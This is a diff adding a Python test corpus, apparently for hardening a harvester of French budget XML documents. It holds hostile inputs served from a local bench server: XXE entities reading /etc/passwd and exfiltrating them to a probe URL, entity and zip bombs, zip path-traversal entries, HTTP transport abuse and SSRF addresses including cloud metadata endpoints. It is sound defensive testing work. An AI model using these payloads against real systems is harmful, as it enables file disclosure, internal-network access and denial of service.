@@ -1,0 +1,579 @@
+"""The hostile corpus of `bench/hostile.py`: what each case serves and how.
+
+A ``Case`` is one hostile thing a community's site (or an attacker posing as one) could serve. Its
+``respond`` callable answers one HTTP request on the bench's local server; documents derived from
+a real sample are built in memory (the sample is read, never copied), huge bodies are generated
+lazily while they are sent. ``level`` says where the harvest must notice it: ``document`` cases
+are listed by URL in one source (an object error each), ``source`` cases are the URL of a source
+of their own (a gather error, or an object error for an archive entry), ``ssrf`` cases are URLs
+that must be refused before any connection.
+"""
+from __future__ import annotations
+
+import codecs
+import gzip
+import io
+import itertools
+import random
+import re
+import zipfile
+from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+from typing import Callable, Iterable, Iterator
+
+SHARED_TOTEM = Path(__file__).resolve().parents[1].parent / "shared" / "data" / "totem"
+# The smallest sample (an annex budget, 21 lines): the base of every mutated document.
+BASE_SAMPLE = SHARED_TOTEM / "crach-lotissement-bp-2022.xml"
+MEGABYTE = 2**20
+
+Respond = Callable[[BaseHTTPRequestHandler], None]
+
+
+@dataclass
+class Case:
+    name: str
+    category: str
+    level: str                     # "document", "source" or "ssrf"
+    respond: Respond | None = None  # None: the URL is not served by the bench (SSRF targets)
+    url: str | None = None          # for SSRF cases: the URL as given to the harvest source
+    source_config: dict | None = None
+    # A hostile-looking document that is nonetheless a valid budget may be imported (into a
+    # dataset of its own): then no error is expected.
+    may_import: bool = False
+    # A source whose only entries are skipped by design (encrypted) lists no document, no error.
+    may_list_nothing: bool = False
+
+    @property
+    def path(self) -> str:
+        return f"/case/{self.name}" + ("" if self.level == "source" and self.source_config else ".xml")
+
+
+# --- answering ---------------------------------------------------------------------------------
+
+
+def body(data: bytes, content_type: str = "application/xml", headers: dict | None = None,
+         status: int = 200) -> Respond:
+    def respond(handler: BaseHTTPRequestHandler) -> None:
+        handler.send_response(status)
+        handler.send_header("Content-Type", content_type)
+        for name, value in (headers or {}).items():
+            handler.send_header(name, value)
+        handler.send_header("Content-Length", str(len(data)))
+        handler.end_headers()
+        handler.wfile.write(data)
+    return respond
+
+
+def stream(chunks: Callable[[], Iterable[bytes]], content_length: int | None = None,
+           content_type: str = "application/xml") -> Respond:
+    """A body generated while it is sent; without a length, the end of the body is the connection's."""
+    def respond(handler: BaseHTTPRequestHandler) -> None:
+        handler.send_response(200)
+        handler.send_header("Content-Type", content_type)
+        if content_length is not None:
+            handler.send_header("Content-Length", str(content_length))
+        handler.end_headers()
+        handler.close_connection = True
+        try:
+            for chunk in chunks():
+                if handler.server.stopping.is_set():
+                    return
+                handler.wfile.write(chunk)
+        except OSError:  # the client gave up: that is the point
+            pass
+    return respond
+
+
+def raw(data: bytes, then_wait: bool = False) -> Respond:
+    """Bytes written as they are on the socket, no HTTP framing added."""
+    def respond(handler: BaseHTTPRequestHandler) -> None:
+        handler.close_connection = True
+        try:
+            handler.wfile.write(data)
+            handler.wfile.flush()
+        except OSError:
+            return
+        if then_wait:
+            handler.server.stopping.wait(3600)
+    return respond
+
+
+def trickle(prefix: bytes, interval: float, seconds: float) -> Respond:
+    """Headers, then one byte every ``interval`` s for ``seconds``, then silence."""
+    def respond(handler: BaseHTTPRequestHandler) -> None:
+        stopping = handler.server.stopping
+        handler.send_response(200)
+        handler.send_header("Content-Type", "application/xml")
+        handler.end_headers()
+        handler.close_connection = True
+        try:
+            handler.wfile.write(prefix)
+            handler.wfile.flush()
+            for count in itertools.count():
+                if count * interval >= seconds:
+                    break
+                if stopping.wait(interval):
+                    return
+                handler.wfile.write(b" ")
+                handler.wfile.flush()
+        except OSError:  # the client gave up
+            return
+        stopping.wait(3600)
+    return respond
+
+
+def redirect(location: Callable[[BaseHTTPRequestHandler], str], status: int = 302) -> Respond:
+    def respond(handler: BaseHTTPRequestHandler) -> None:
+        handler.send_response(status)
+        handler.send_header("Location", location(handler))
+        handler.send_header("Content-Length", "0")
+        handler.end_headers()
+    return respond
+
+
+def stall_after_headers(handler: BaseHTTPRequestHandler) -> None:
+    handler.send_response(200)
+    handler.send_header("Content-Type", "application/xml")
+    handler.send_header("Content-Length", "100000")
+    handler.end_headers()
+    handler.wfile.write(b"<?xml version='1.0'?>")
+    handler.wfile.flush()
+    handler.close_connection = True
+    handler.server.stopping.wait(3600)
+
+
+def stall_before_headers(handler: BaseHTTPRequestHandler) -> None:
+    handler.close_connection = True
+    handler.server.stopping.wait(3600)
+
+
+def base_url(handler: BaseHTTPRequestHandler) -> str:
+    return handler.server.base_url
+
+
+# --- documents ---------------------------------------------------------------------------------
+
+
+def base_text() -> str:
+    return BASE_SAMPLE.read_bytes().decode("iso-8859-1")
+
+
+def own_budget(text: str, name: str) -> str:
+    """The base document as an annex budget of its own (CodBud = case name): if a case imports,
+    it creates its own dataset and never touches the good samples'."""
+    code = "H" + re.sub(r"[^A-Za-z0-9]", "", name)[:20].upper()
+    return text.replace('<CodBud V="06"/>', f'<CodBud V="{code}"/>', 1)
+
+
+def latin1(text: str) -> bytes:
+    return text.encode("iso-8859-1", errors="xmlcharrefreplace")
+
+
+def replace_first(text: str, element: str, value: str) -> str:
+    return re.sub(rf'<{element} V="[^"]*"/>', lambda _m: f'<{element} V="{value}"/>', text, count=1)
+
+
+def remove_element(text: str, element: str) -> str:
+    """Remove the first <element …/> or <element>…</element>."""
+    pattern = rf"<{element}(?:\s[^>]*)?/>|<{element}(?:\s[^>]*)?>.*?</{element}>"
+    return re.sub(pattern, "", text, count=1, flags=re.S)
+
+
+def label(value: str) -> str:
+    """A value as a short name usable in a URL path: non-ASCII shown as its code point."""
+    return re.sub(r"[^A-Za-z0-9]+", "_", value.encode("ascii", "backslashreplace").decode()).strip("_")[:16] or "blank"
+
+
+def with_doctype(text: str, doctype: str) -> str:
+    declaration, _, rest = text.partition("?>")
+    return f"{declaration}?>\n{doctype}{rest}"
+
+
+def document_cases(probe_path: str) -> list[Case]:
+    """``probe_path``: a path on the bench's server that no case serves; a hit there is a leak."""
+    text = base_text()
+    cases: list[Case] = []
+
+    def add(category: str, name: str, data: bytes | Respond, *, content_type: str = "application/xml",
+            may_import: bool = False) -> None:
+        respond = data if callable(data) else body(data, content_type)
+        cases.append(Case(f"{category}-{name}", category, "document", respond, may_import=may_import))
+
+    def mutated(name: str, change: Callable[[str], str]) -> bytes:
+        return latin1(change(own_budget(text, name)))
+
+    # XXE: every DTD is refused before parsing, whatever it declares.
+    targets = {"passwd": "file:///etc/passwd", "hostname": "file:///etc/hostname",
+               "environ": "file:///proc/self/environ", "shadow": "/etc/shadow",
+               "probe": "{probe}", "php": "php://filter/resource=/etc/passwd", "expect": "expect://id"}
+    for target_name, target in targets.items():
+        for element in ("LibelleEtab", "IdEtab", "Nature"):
+            name = f"{target_name}-in-{element.lower()}"
+            add("xxe", name, lambda handler, name=name, target=target, element=element: body(mutated(
+                f"xxe-{name}", lambda t: with_doctype(
+                    replace_first(t, element, "&xxe;"),
+                    f'<!DOCTYPE DocumentBudgetaire [<!ENTITY xxe SYSTEM "{target.format(probe=base_url(handler) + probe_path)}">]>'
+                )))(handler))
+    for name, doctype in {
+        "parameter-entity": '<!DOCTYPE d [<!ENTITY % p SYSTEM "{probe}"> %p;]>',
+        "parameter-entity-exfiltration": '<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd">'
+                                         '<!ENTITY % e "<!ENTITY x SYSTEM \'{probe}?%f;\'>"> %e;]>',
+        "external-dtd": '<!DOCTYPE DocumentBudgetaire SYSTEM "{probe}">',
+        "public-dtd": '<!DOCTYPE DocumentBudgetaire PUBLIC "-//x//y" "{probe}">',
+        "local-dtd": '<!DOCTYPE DocumentBudgetaire SYSTEM "file:///etc/passwd">',
+        "doctype-lowercase": '<!doctype DocumentBudgetaire SYSTEM "{probe}">',
+    }.items():
+        add("xxe", name, lambda handler, name=name, doctype=doctype: body(mutated(
+            f"xxe-{name}", lambda t: with_doctype(t, doctype.format(probe=base_url(handler) + probe_path))))(handler))
+    # XInclude needs no DTD; the reader never processes it, so the element is just unknown.
+    add("xxe", "xinclude", lambda handler: body(mutated("xxe-xinclude", lambda t: t.replace(
+        "<EnTeteDocBudgetaire>", '<EnTeteDocBudgetaire><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
+        f'href="{base_url(handler) + probe_path}" parse="text"/>', 1)))(handler), may_import=True)
+    add("xxe", "doctype-after-60k-comment", mutated("xxe-late", lambda t: with_doctype(
+        t, "<!--" + "x" * 60_000 + "-->" + '<!DOCTYPE d [<!ENTITY a "b">]>')))
+    add("xxe", "doctype-after-70k-comment", mutated("xxe-later", lambda t: with_doctype(
+        t, "<!--" + "x" * 70_000 + "-->" + '<!DOCTYPE d [<!ENTITY a "b">]>')))
+
+    # Entity bombs.
+    for depth in (3, 6, 10):
+        entities = '<!ENTITY l0 "lol">' + "".join(
+            f'<!ENTITY l{level} "{("&l" + str(level - 1) + ";") * 10}">' for level in range(1, depth + 1))
+        for element in ("LibelleEtab", "Nature"):
+            add("bomb", f"billion-laughs-{depth}-{element.lower()}", mutated(f"bomb-{depth}{element}", lambda t: with_doctype(
+                replace_first(t, element, f"&l{depth};"), f"<!DOCTYPE d [{entities}]>")))
+    for size_kb, references in ((100, 1000), (1000, 100)):
+        add("bomb", f"quadratic-{size_kb}k-x{references}", mutated(f"quad{size_kb}", lambda t: with_doctype(
+            replace_first(t, "LibelleEtab", "&a;" * references),
+            f'<!DOCTYPE d [<!ENTITY a "{"a" * size_kb * 1024}">]>')))
+    add("bomb", "recursive-entity", mutated("bomb-rec", lambda t: with_doctype(
+        replace_first(t, "LibelleEtab", "&a;"), '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')))
+    add("bomb", "undeclared-entity", mutated("bomb-undeclared", lambda t: replace_first(t, "LibelleEtab", "&nowhere;")))
+    add("bomb", "char-ref-zero", mutated("bomb-charref", lambda t: replace_first(t, "LibelleEtab", "&#0;")))
+    add("bomb", "char-ref-huge", mutated("bomb-charref2", lambda t: replace_first(t, "LibelleEtab", "&#x110000;")))
+
+    # Malformed and truncated XML.
+    whole = latin1(own_budget(text, "trunc"))
+    for fraction in range(1, 20):
+        cut = len(whole) * fraction // 20
+        add("malformed", f"truncated-{fraction * 5}pct", whole[:cut])
+    for cut in (1, 5, 30, 38, 39, 45):
+        add("malformed", f"truncated-at-{cut}-bytes", whole[:cut])
+    rng = random.Random(7)
+    malformed = {
+        "empty": b"",
+        "whitespace-only": b" \n\t " * 100,
+        "declaration-only": b'<?xml version="1.0" encoding="UTF-8"?>',
+        "nul-bytes": b"\x00" * 4096,
+        "random-binary": bytes(rng.randrange(256) for _ in range(8192)),
+        "nul-inside": mutated("nul", lambda t: t.replace("<Budget>", "<Budget>\x00", 1)),
+        "control-chars": mutated("ctrl", lambda t: replace_first(t, "LibelleEtab", "\x01\x02\x1b[31m")),
+        "unclosed-root": mutated("unclosed", lambda t: t.replace("</DocumentBudgetaire>", "")),
+        "mismatched-tags": mutated("mismatch", lambda t: t.replace("</Budget>", "</Budgets>", 1)),
+        "two-roots": mutated("tworoots", lambda t: t + t[t.index("<DocumentBudgetaire"):]),
+        "garbage-after-root": mutated("garbage", lambda t: t + "<<<&&&>>>"),
+        "unterminated-cdata": mutated("cdata", lambda t: t.replace("<Budget>", "<Budget><![CDATA[ never ends", 1)),
+        "unquoted-attribute": mutated("unquoted", lambda t: t.replace('<Exer V="2022"/>', "<Exer V=2022/>", 1)),
+        "duplicate-attribute": mutated("dupattr", lambda t: t.replace('<Exer V="2022"/>', '<Exer V="2022" V="2023"/>', 1)),
+        "lt-in-attribute": mutated("ltattr", lambda t: replace_first(t, "LibelleEtab", "a<b")),
+        "deep-nesting-100k": mutated("deep", lambda t: t.replace("<Budget>", "<Budget>" + "<x>" * 100_000 + "</x>" * 100_000, 1)),
+        "long-attribute-10mb": mutated("longattr", lambda t: replace_first(t, "LibelleEtab", "A" * (10 * MEGABYTE))),
+        "long-tag-name": mutated("longtag", lambda t: t.replace("<Budget>", "<Budget><" + "T" * 100_000 + "/>", 1)),
+        "million-attributes": mutated("attrs", lambda t: t.replace("<Budget>", "<Budget><x " + " ".join(f"a{i}=''" for i in range(200_000)) + "/>", 1)),
+        "wrong-namespace": mutated("ns", lambda t: t.replace("http://www.minefi.gouv.fr/cp/demat/docbudgetaire", "urn:x", 1)),
+        "no-namespace": mutated("nons", lambda t: t.replace(' xmlns="http://www.minefi.gouv.fr/cp/demat/docbudgetaire"', "", 1)),
+        "other-root": b'<?xml version="1.0"?><Budget xmlns="http://www.minefi.gouv.fr/cp/demat/docbudgetaire"/>',
+        "two-budgets": mutated("twobudgets", lambda t: t.replace("</Budget>", "</Budget>" + t[t.index("<Budget>"):t.index("</Budget>") + 9], 1)),
+        "processing-instruction-flood": mutated("pis", lambda t: t.replace("<Budget>", "<Budget>" + "<?pi x?>" * 100_000, 1)),
+        "comment-flood": mutated("comments", lambda t: t.replace("<Budget>", "<Budget>" + "<!-- c -->" * 200_000, 1)),
+    }
+    well_formed_floods = ("million-attributes", "processing-instruction-flood", "comment-flood")
+    for name, data in malformed.items():
+        add("malformed", name, data, may_import=name in well_formed_floods)
+
+    # Lying encodings.
+    utf8 = own_budget(text, "enc").replace('encoding="ISO-8859-1"', 'encoding="UTF-8"', 1)
+    declared_latin = own_budget(text, "enc2")
+    encodings = {
+        "latin1-declared-utf16-le-bom": codecs.BOM_UTF16_LE + declared_latin.encode("utf-16-le"),
+        "latin1-declared-utf16-be-bom": codecs.BOM_UTF16_BE + declared_latin.encode("utf-16-be"),
+        "latin1-declared-utf16-no-bom": declared_latin.encode("utf-16-le"),
+        "latin1-declared-utf32": declared_latin.encode("utf-32"),
+        "utf8-declared-latin1-bytes": utf8.encode("iso-8859-1"),
+        "utf8-declared-lone-continuation": utf8.replace("BUDGET", "BUDGET\udc80", 1).encode("utf-8", "surrogateescape"),
+        "utf8-declared-overlong": utf8.replace("BUDGET", "BUDGET\udcc0\udcaf", 1).encode("utf-8", "surrogateescape"),
+        "utf8-declared-surrogate": utf8.replace("BUDGET", "BUDGET\udced\udca0\udc80", 1).encode("utf-8", "surrogateescape"),
+        "utf8-bom-declared-latin1": codecs.BOM_UTF8 + declared_latin.encode("utf-8"),
+        "utf16-bom-declared-utf8": codecs.BOM_UTF16_LE + utf8.encode("utf-16-le"),
+        "utf8-bom-twice": codecs.BOM_UTF8 * 2 + utf8.encode("utf-8"),
+        "declared-ebcdic": declared_latin.replace('encoding="ISO-8859-1"', 'encoding="cp500"', 1).encode("cp500"),
+        "declared-unknown": latin1(declared_latin.replace('encoding="ISO-8859-1"', 'encoding="x-klingon"', 1)),
+        "declared-utf7": latin1(declared_latin.replace('encoding="ISO-8859-1"', 'encoding="UTF-7"', 1)),
+        "declared-empty": latin1(declared_latin.replace('encoding="ISO-8859-1"', 'encoding=""', 1)),
+        "shift-jis-bytes": declared_latin.replace('encoding="ISO-8859-1"', 'encoding="Shift_JIS"', 1).replace(
+            "BUDGET", "予算", 1).encode("shift_jis", errors="replace"),
+    }
+    for name, data in encodings.items():
+        # libxml2 decodes by the BOM, which here tells the truth: the text is read correctly.
+        add("encoding", name, data, may_import=name == "utf8-bom-declared-latin1")
+
+    # Something else served as XML.
+    not_xml = {
+        "html-page": (b"<!DOCTYPE html><html><head><title>Budget</title></head><body><p>Budget 2022</p></body></html>", "application/xml"),
+        "html-no-doctype": (b"<html><body>Erreur 500</body></html>", "text/html"),
+        "xhtml": (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "application/xml"),
+        "json-object": (b'{"budget": 2022, "lines": []}', "application/json"),
+        "json-array": (b"[1, 2, 3]", "application/xml"),
+        "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "application/pdf"),
+        "zip-bytes": (zip_of({"a.xml": whole}), "application/xml"),
+        "gzip-bytes": (gzip.compress(whole), "application/xml"),
+        "png": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "image/png"),
+        "plain-text": (b"Budget primitif 2022\n", "text/plain"),
+        "csv": (b"BGT_NATDEC;BGT_ANNEE\n01;2022\n", "text/csv"),
+        "rss": (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>', "application/rss+xml"),
+        "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
+        "soap-fault": (b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
+                       b"<soap:Body><soap:Fault/></soap:Body></soap:Envelope>", "text/xml"),
+    }
+    for name, (data, content_type) in not_xml.items():
+        add("not-xml", name, data, content_type=content_type)
+
+    # Absurd numbers and dates. Numbers xs:decimal allows (negative zero, 500 digits) may import.
+    amounts = {"1e309": False, "1E309": False, "NaN": False, "nan": False, "Infinity": False,
+               "-Infinity": False, "inf": False, "-0": True, "-0.00": True, "+0": True,
+               "9" * 500: True, "0." + "1" * 500: True, "1,5": False, "1 000": False, "0x10": False,
+               "": False, " ": False, "١٢٣": False, "１２３": False, "1e5": False, ".": False, "-": False,
+               "--1": False, "1.2.3": False, "12abc": False, "-" + "9" * 500: True}
+    for index, (value, valid) in enumerate(amounts.items()):
+        add("numbers", f"amount-{index:02d}-{label(value)}",
+            mutated(f"amt{index}", lambda t, value=value: replace_first(t, "MtPrev", value)), may_import=valid)
+    header_values = {
+        ("Exer", "99999"), ("Exer", "0"), ("Exer", "-2022"), ("Exer", "1999"), ("Exer", "2100"), ("Exer", ""),
+        ("Exer", "20 22"), ("Exer", "2022.0"), ("Exer", "٢٠٢٢"), ("Exer", "9" * 500),
+        ("DteDec", "99999-12-31"), ("DteDec", "0000-00-00"), ("DteDec", "2022-02-30"), ("DteDec", "yesterday"),
+        ("NatDec", "99"), ("NatDec", ""), ("NatDec", "1"),
+        ("IdEtab", "0" * 14), ("IdEtab", "2156004610008"), ("IdEtab", "ABCDEFGHIJKLMN"), ("IdEtab", "9" * 500),
+        ("Nomenclature", "M999-M999"), ("Nomenclature", "../../etc/passwd"), ("Nomenclature", "M14-M14_COM_500_3500/../../x"),
+        ("CodBud", "../../../etc"), ("CodBud", "<script>alert(1)</script>"),
+    }
+    for index, (element, value) in enumerate(sorted(header_values)):
+        escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
+        # A strange decision date or budget code still makes a budget: those may import.
+        # 00000000000000 passes the SIRET checksum (Luhn), as the schema's own check does.
+        add("numbers", f"{element.lower()}-{index:02d}-{label(value)}",
+            mutated(f"hdr{index}", lambda t, element=element, escaped=escaped: replace_first(t, element, escaped)),
+            may_import=element in ("DteDec", "CodBud") or value == "0" * 14)
+
+    # Missing headers.
+    for element in ("IdEtab", "Exer", "Nomenclature", "Budget", "NatDec", "EnTeteDocBudgetaire",
+                    "EnTeteBudget", "BlocBudget", "LibelleColl", "IdColl", "CodBud", "LibelleEtab"):
+        # An annex with no CodBud or a budget with no names is still a budget.
+        add("missing", f"no-{element.lower()}", mutated(f"miss{element}", lambda t, element=element: remove_element(t, element)),
+            may_import=element in ("EnTeteDocBudgetaire", "LibelleColl", "IdColl", "CodBud", "LibelleEtab"))
+    add("missing", "no-lines", mutated("nolines", lambda t: re.sub(r"<LigneBudget>.*?</LigneBudget>", "", t, flags=re.S)),
+        may_import=True)
+    add("missing", "empty-values", mutated("emptyvalues", lambda t: re.sub(r' V="[^"]*"', ' V=""', t)))
+
+    cases.extend(transport_cases(whole))
+    return cases
+
+
+def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+# --- transport ---------------------------------------------------------------------------------
+
+
+def endless_xml() -> Iterator[bytes]:
+    yield b'<?xml version="1.0"?><DocumentBudgetaire xmlns="http://www.minefi.gouv.fr/cp/demat/docbudgetaire">'
+    line = b"<LigneBudget><Nature V='6045'/><CodRD V='D'/><MtPrev V='1.00'/></LigneBudget>" * 800
+    while True:
+        yield line
+
+
+def sized_xml(total: int) -> Callable[[], Iterator[bytes]]:
+    def chunks() -> Iterator[bytes]:
+        sent = 0
+        for chunk in endless_xml():
+            chunk = chunk[:total - sent]
+            sent += len(chunk)
+            yield chunk
+            if sent >= total:
+                return
+    return chunks
+
+
+def transport_cases(good: bytes) -> list[Case]:
+    def case(name: str, respond: Respond, may_import: bool = False) -> Case:
+        return Case(f"transport-{name}", "transport", "document", respond, may_import=may_import)
+
+    def own_path(handler: BaseHTTPRequestHandler) -> str:
+        return base_url(handler) + handler.path.split("?")[0]
+
+    huge = 150 * MEGABYTE
+    return [
+        case("redirect-self", redirect(own_path)),
+        case("redirect-ping-pong", redirect(lambda h: base_url(h) + "/case/transport-redirect-pong.xml")),
+        Case("transport-redirect-pong", "transport", "document",
+             redirect(lambda h: base_url(h) + "/case/transport-redirect-ping-pong.xml")),
+        case("redirect-chain-7", redirect(lambda h: own_path(h) + "?hop=1" if "hop" not in h.path
+                                          else own_path(h) + f"?hop={int(h.path.rsplit('=', 1)[1]) + 1}")),
+        case("redirect-to-missing", redirect(lambda h: base_url(h) + "/nowhere.xml")),
+        case("redirect-no-location", body(b"", headers={}, status=302)),
+        case("redirect-to-file-scheme", redirect(lambda h: "file:///etc/passwd")),
+        case("redirect-to-gopher", redirect(lambda h: "gopher://127.0.0.1:70/_x")),
+        case("redirect-308-to-bad-port", redirect(lambda h: "http://127.0.0.1:99999/x.xml", 308)),
+        case("http-404", body(b"not found", "text/plain", status=404)),
+        case("http-410", body(b"gone", "text/plain", status=410)),
+        case("http-500", body(b"Traceback (most recent call last):\n  File \"x\"", "text/plain", status=500)),
+        case("http-503", body(b"", "text/plain", headers={"Retry-After": "999999"}, status=503)),
+        case("http-401", body(b"", "text/plain", headers={"WWW-Authenticate": "Basic"}, status=401)),
+        case("http-418", body(b"teapot", "text/plain", status=418)),
+        case("http-204-empty", body(b"", status=204)),
+        case("http-304-unasked", body(b"", status=304)),
+        case("http-999", raw(b"HTTP/1.1 999 Weird\r\nContent-Length: 0\r\n\r\n")),
+        case("http-0.9-garbage", raw(b"this is not http at all\r\n\r\n")),
+        case("close-without-answer", raw(b"")),
+        case("content-length-short", raw(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + good[:1000])),
+        case("content-length-huge-declared", raw(b"HTTP/1.1 200 OK\r\nContent-Length: 999999999999\r\n\r\n" + good)),
+        # http.client ignores an unreadable length and reads to the end: the document is whole.
+        case("content-length-negative", raw(b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n" + good), True),
+        case("content-length-letters", raw(b"HTTP/1.1 200 OK\r\nContent-Length: lots\r\n\r\n" + good), True),
+        case("chunked-invalid", raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZZ\r\nabc\r\n0\r\n\r\n")),
+        case("chunked-huge-chunk-size", raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
+                                            b"FFFFFFFFFFFFFFFF\r\nabc", then_wait=True)),
+        case("huge-header-1mb", raw(b"HTTP/1.1 200 OK\r\nX-Big: " + b"a" * MEGABYTE + b"\r\n\r\n")),
+        case("header-flood-10000", raw(b"HTTP/1.1 200 OK\r\n" + b"".join(
+            b"X-H%d: v\r\n" % i for i in range(10_000)) + b"\r\n")),
+        case("header-without-colon", raw(b"HTTP/1.1 200 OK\r\nthis header has no colon\r\nContent-Length: 3\r\n\r\nabc")),
+        case("status-line-1mb", raw(b"HTTP/1.1 200 " + b"O" * MEGABYTE + b"\r\n\r\n")),
+        case("stall-before-headers", stall_before_headers),
+        case("stall-after-headers", stall_after_headers),
+        case("trickle-then-stall", trickle(b"<?xml version='1.0'?>", 0.2, 3.0)),
+        # One byte every 0.5 s for a minute, well past the download time budget, then silence.
+        case("dribble-60s", trickle(b"<?xml version='1.0'?>", 0.5, 60.0)),
+        case("endless-fast", stream(endless_xml)),
+        case("huge-150mb-no-length", stream(sized_xml(huge))),
+        case("huge-150mb-with-length", stream(sized_xml(huge), content_length=huge)),
+        case("gzip-bomb-content-encoding", body(gzip.compress(b"\x00" * (50 * MEGABYTE)),
+                                                headers={"Content-Encoding": "gzip"})),
+    ]
+
+
+# --- sources (archives, pages) -----------------------------------------------------------------
+
+
+def zip_bomb_entry(size: int) -> bytes:
+    """One entry of ``size`` zero bytes, deflated (about 1000:1), built without holding it whole."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open("budget.xml", "w", force_zip64=True) as entry:
+            block = b"\x00" * MEGABYTE
+            for _ in range(size // MEGABYTE):
+                entry.write(block)
+    return buffer.getvalue()
+
+
+def lying_size_zip() -> bytes:
+    """An entry whose central directory claims a tiny size while it inflates to 200 MB."""
+    data = bytearray(zip_bomb_entry(200 * MEGABYTE))
+    # Patch the central directory's uncompressed size (zip64 extra keeps the real one; the
+    # 32-bit field says 1000), so a reader trusting the header is fooled.
+    central = data.rfind(b"PK\x01\x02")
+    data[central + 24:central + 28] = (1000).to_bytes(4, "little")
+    return bytes(data)
+
+
+def source_cases(good: bytes) -> list[Case]:
+    def source(name: str, respond: Respond, config: dict) -> Case:
+        return Case(f"source-{name}", "archive" if config.get("kind") == "zip" else "source", "source",
+                    respond, source_config=config)
+
+    zip_kind = {"kind": "zip"}
+    index_kind = {"kind": "index"}
+    return [
+        source("zip-bomb-1gb", body(zip_bomb_entry(1024 * MEGABYTE), "application/zip"), zip_kind),
+        source("zip-lying-size", body(lying_size_zip(), "application/zip"), zip_kind),
+        source("zip-2000-entries", body(zip_of({f"d{i}.xml": b"<a/>" for i in range(2000)}), "application/zip"), zip_kind),
+        source("zip-traversal", body(zip_of({"../../../tmp/budgetod-pwned.xml": good}), "application/zip"), zip_kind),
+        source("zip-absolute-path", body(zip_of({"/etc/budgetod-pwned.xml": good}), "application/zip"), zip_kind),
+        source("zip-backslash-traversal", body(zip_of({"..\\..\\budgetod-pwned.xml": good}), "application/zip"), zip_kind),
+        source("zip-windows-drive", body(zip_of({"C:/budgetod-pwned.xml": good}), "application/zip"), zip_kind),
+        source("zip-truncated", body(zip_of({"a.xml": good})[:-30], "application/zip"), zip_kind),
+        source("zip-not-an-archive", body(b'{"json": true}', "application/zip"), zip_kind),
+        source("zip-empty-file", body(b"", "application/zip"), zip_kind),
+        source("zip-stored-entry-bad-crc", body(bad_crc_zip(good), "application/zip"), zip_kind),
+        Case("source-zip-encrypted-flag", "archive", "source", body(encrypted_flag_zip(good), "application/zip"),
+             source_config=zip_kind, may_list_nothing=True),
+        source("index-redirect-loop", redirect(lambda h: base_url(h) + h.path), index_kind),
+        source("index-endless-html", stream(lambda: itertools.chain(
+            [b"<html><body>"], itertools.repeat(b"<p>" + b"x" * 8000 + "</p>".encode()))), index_kind),
+        source("index-stall", stall_before_headers, index_kind),
+        source("index-http-500", body(b"oops", "text/plain", status=500), index_kind),
+        source("guess-json-content", body(b'{"not": "a page"}', "application/json"), {}),
+        source("ckan-api-html", body(b"<html>maintenance</html>", "text/html"), {"kind": "ckan"}),
+    ]
+
+
+def bad_crc_zip(good: bytes) -> bytes:
+    data = bytearray(zip_of({"budget.xml": good}, zipfile.ZIP_STORED))
+    data[14:18] = b"\xde\xad\xbe\xef"  # local header CRC
+    central = data.rfind(b"PK\x01\x02")
+    data[central + 16:central + 20] = b"\xde\xad\xbe\xef"
+    return bytes(data)
+
+
+def encrypted_flag_zip(good: bytes) -> bytes:
+    data = bytearray(zip_of({"budget.xml": good}))
+    data[6] |= 1  # general purpose flag bit 0: encrypted
+    central = data.rfind(b"PK\x01\x02")
+    data[central + 8] |= 1
+    return bytes(data)
+
+
+# --- SSRF --------------------------------------------------------------------------------------
+
+
+def ssrf_cases(port: int) -> list[Case]:
+    """Addresses that must be refused before any connection. Those naming the bench's port would
+    reach its server if they were not refused; the others are never contacted (a guard in
+    `hostile.py` refuses any connection to a non-loopback address)."""
+    targets = {
+        "loopback": f"http://127.0.0.1:{port}/ssrf.xml",
+        "loopback-127-1": f"http://127.1:{port}/ssrf.xml",
+        "loopback-other": f"http://127.255.0.7:{port}/ssrf.xml",
+        "decimal": f"http://2130706433:{port}/ssrf.xml",
+        "octal": f"http://0177.0.0.1:{port}/ssrf.xml",
+        "octal-whole": f"http://017700000001:{port}/ssrf.xml",
+        "hex": f"http://0x7f000001:{port}/ssrf.xml",
+        "hex-dotted": f"http://0x7f.0.0.1:{port}/ssrf.xml",
+        "localhost": f"http://localhost:{port}/ssrf.xml",
+        "localhost-upper": f"http://LOCALHOST:{port}/ssrf.xml",
+        "localhost-dot": f"http://localhost.:{port}/ssrf.xml",
+        "ipv6-loopback": f"http://[::1]:{port}/ssrf.xml",
+        "ipv6-mapped": f"http://[::ffff:127.0.0.1]:{port}/ssrf.xml",
+        "ipv6-mapped-hex": f"http://[::ffff:7f00:1]:{port}/ssrf.xml",
+        "ipv6-nat64": f"http://[64:ff9b::7f00:1]:{port}/ssrf.xml",
+        "ipv6-6to4": f"http://[2002:7f00:1::1]:{port}/ssrf.xml",
+        "unspecified": f"http://0.0.0.0:{port}/ssrf.xml",
+        "unspecified-short": f"http://0:{port}/ssrf.xml",
+        "ipv6-unspecified": f"http://[::]:{port}/ssrf.xml",
+        "metadata": "http://169.254.169.254/latest/meta-data/budget.xml",
+        "metadata-decimal": "http://2852039166/latest/budget.xml",
+        "link-local-v6": "http://[fe80::1]/budget.xml",
+        "private-10": "http://10.0.0.1/budget.xml",
